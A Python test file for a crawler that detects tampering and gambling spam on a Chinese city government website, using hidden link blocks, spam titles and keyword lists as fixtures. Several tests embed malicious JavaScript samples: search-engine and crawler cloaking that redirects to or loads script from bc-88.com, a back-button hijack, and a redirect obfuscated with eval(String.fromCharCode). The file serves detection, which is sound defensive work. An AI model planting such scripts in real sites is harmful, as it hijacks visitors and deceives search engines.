from datetime import date

import pytest

from govcrawl.pages.links.on_page import LinkMemo
from govcrawl.pages.read import read_page
from govcrawl.pages.report import page_report
from tests.pages.tampering.blocks import BENIGN, BORING, WAYS, WORDS, anchors

HOME = "http://jtj.lanchuan.gov.cn/"
NEWS = "".join(
    f'<li><a href="/dt/202611/t20261120_{n}.html">岚川市交通局召开第{n}次工作会议</a><span>2026-11-20</span></li>'
    for n in range(20)
)


def page(inside: str, head: str = "<title>岚川市交通局</title>") -> str:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}</head><body><div class="top"><a href="/">首页</a>'
        f'<a href="/gk/">政务公开</a><a href="/fw/">办事服务</a></div><ul>{NEWS}</ul>{inside}'
        '<div class="foot"><p>主办单位：岚川市交通局　地址：岚川市人民路1号　邮编：234100</p></div></body></html>'
    )


def read(markup: str):
    return read_page(
        markup.encode(),
        HOME,
        as_of=date(2026, 11, 22),
        memo=LinkMemo(HOME),
        content_type="text/html; charset=utf-8",
    )


def planted(inside: str, **more):
    return [each for each in read(page(inside, **more)).planted if each.doubt != "menu"]


@pytest.mark.parametrize("way", WAYS)
def test_spam_is_found_however_it_is_hidden(way):
    found = planted(WAYS[way](WORDS))

    assert [("hidden", None)] == [(each.kind, each.doubt) for each in found]
    assert {url for url, _ in WORDS} == {each.url for each in found[0].anchors}
    assert any(word.startswith("gambling") for word in found[0].words)


@pytest.mark.parametrize("way", sorted(WAYS.keys() - {"noscript", "sheet display"}))
def test_a_block_of_strangers_is_found_whatever_its_words(way):
    found = planted(WAYS[way](BORING))

    assert [("hidden", None)] == [(each.kind, each.doubt) for each in found]
    assert 5 == len(found[0].anchors)


def test_a_block_whose_class_may_be_shown_by_some_script_waits_for_a_person():
    assert ["named"] == [each.doubt for each in planted(WAYS["sheet display"](BORING))]


def test_two_strange_links_without_a_switch_wait_for_a_person_and_one_for_history():
    assert ["few"] == [each.doubt for each in planted(WAYS["display"](BORING[:2]))]
    assert ["menu"] == [each.doubt for each in read(page(WAYS["display"](BORING[:1]))).planted]
    assert ["few"] == [each.doubt for each in planted(WAYS["display"]([(BORING[0][0], "开元棋牌")]))]


@pytest.mark.parametrize("name", BENIGN)
def test_what_an_honest_page_hides_is_silent(name):
    assert [] == planted(BENIGN[name])


@pytest.mark.parametrize("way", ["far", "font", "colour", "marquee", "layer"])
def test_one_link_hidden_as_no_menu_is_waits_for_a_person(way):
    assert ["few"] == [each.doubt for each in planted(WAYS[way](BORING[:1]))]


def test_every_reading_of_a_character_is_heard():
    assert ["few"] == [each.doubt for each in planted(WAYS["display"]([(BORING[0][0], "薄彩公司")]))]


def test_spam_inside_a_menu_is_found_all_the_same():
    inside = f'<div class="yqlj"><h3>友情链接</h3><ul style="display:none">{anchors(WORDS[:1])}</ul></div>'

    assert [None] == [each.doubt for each in planted(inside)]


def test_a_page_behind_a_curtain_hides_nothing():
    markup = page(anchors(BORING)).replace('<div class="top">', '<div style="display:none"><div class="top">')

    assert [] == read(markup).planted


def test_where_and_how_it_stands_is_kept():
    markup = page(WAYS["display"](WORDS))
    found = read(markup).planted[0]

    assert "html > body > div:nth-child(3)" == found.place
    assert markup.index(WORDS[0][0]) == found.position
    assert found.excerpt.startswith('<div style="display:none">')


@pytest.mark.parametrize(
    "title",
    [
        "澳门新葡京官网-app下载",
        "北京赛车pk10开奖直播",
        "".join(f"&#{ord(each)};" for each in "澳门博彩官网"),
        "".join(f"&#x{ord(each):x};" for each in "时时彩平台注册"),
        "菠菜平台注册送彩金",
        "時時彩官網-開戶",
        "办假证 代开发票 加微信",
        "百家乐",
    ],
)
def test_a_title_of_spam_is_found(title):
    found = planted("", head=f"<title>{title}</title>")

    assert [("title", None)] == [(each.kind, each.doubt) for each in found]


@pytest.mark.parametrize(
    "title",
    [
        "岚川市公安局破获一起网络赌博案",
        "关于严厉打击开设赌场犯罪的通告",
        "岚川市福利彩票发行中心官网",
        "岚川市小额贷款公司名单",
        "中小企业贷款服务平台",
        "毕业证遗失补办流程",
        "增值税发票开具指南",
        "菠菜种植技术要点",
        "博采众长 推动高质量发展",
        "岚川市中医院男科门诊",
        "打击电信网络诈骗：裸聊陷阱",
        "大学生裸聊被骗万元",
    ],
)
def test_a_title_of_an_office_is_silent(title):
    assert [] == planted("", head=f"<title>{title}</title>")


def test_keywords_written_for_engines_are_found():
    head = '<title>岚川市交通局</title><meta name="keywords" content="百家乐,时时彩,真人娱乐,博彩官网">'

    assert ["keywords"] == [each.kind for each in planted("", head=head)]


def test_shown_spam_is_one_finding_a_page_and_hidden_spam_none_beside():
    found = planted(f"<p>{anchors(WORDS)}</p>")
    both = planted(f'<div style="display:none">{anchors(WORDS)}</div>')

    assert [("shown", 3)] == [(each.kind, len(each.anchors)) for each in found]
    assert ["hidden"] == [each.kind for each in both]


@pytest.mark.parametrize(
    ("link", "doubts"),
    [
        ('<a href="http://www.w8x.com/">德甲竞猜投注</a>', ["word"]),
        ('<a href="http://www.w8x.com/">德甲竞猜新闻</a>', []),
        ('<a href="http://tc.yunting.gov.cn/">投注站名单</a>', []),
        ('<a href="http://www.w8x.com/">打击网络投注专项行动</a>', []),
    ],
)
def test_a_word_that_offices_use_too_is_a_doubt_where_a_link_leads_to_a_stranger(link, doubts):
    assert doubts == [each.doubt for each in planted(f"<p>{link}</p>")]


def test_warnings_against_gambling_are_no_spam():
    text = (
        "警方提醒：百家乐、时时彩、六合彩、老虎机、北京赛车等网络赌博平台注册充值均属违法犯罪，请勿下载app。"
        * 3
    )

    assert [] == planted(f"<p>{text}</p>")


@pytest.mark.parametrize(
    ("script", "way"),
    [
        (
            'if(/baidu|sogou|so\\.com/.test(document.referrer)){location.href="http://www.bc-88.com/"}',
            "referrer",
        ),
        (
            "var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('360')>0)window.location.replace('//www.bc-88.com/x');",
            "referrer",
        ),
        (
            'var u=navigator.userAgent.toLowerCase();if(u.indexOf("baiduspider")>=0){document.write(\'<script src="http://x.bc-88.com/a.js"><\\/script>\')}',
            "spider",
        ),
        (
            'history.pushState(null,null,"#");window.addEventListener("popstate",function(){location.href="http://www.bc-88.com/"});',
            "back",
        ),
    ],
)
def test_a_script_of_two_faces_is_found(script, way):
    assert [("script", way)] == [(each.kind, each.way) for each in planted(f"<script>{script}</script>")]


def test_a_script_in_codes_is_read():
    code = 'if(/baidu/.test(document.referrer)){location.href="http://www.bc-88.com/"}'
    numbers = ",".join(str(ord(each)) for each in code)

    assert ["referrer"] == [
        each.way for each in planted(f"<script>eval(String.fromCharCode({numbers}))</script>")
    ]


def test_the_report_of_a_page_names_the_check():
    findings = page_report(read(page(WAYS["display"](WORDS))))["findings"]

    assert ["hidden-link"] == [
        each["check_id"] for each in findings if each["check_id"] in ("hidden-link", "link-dead")
    ]
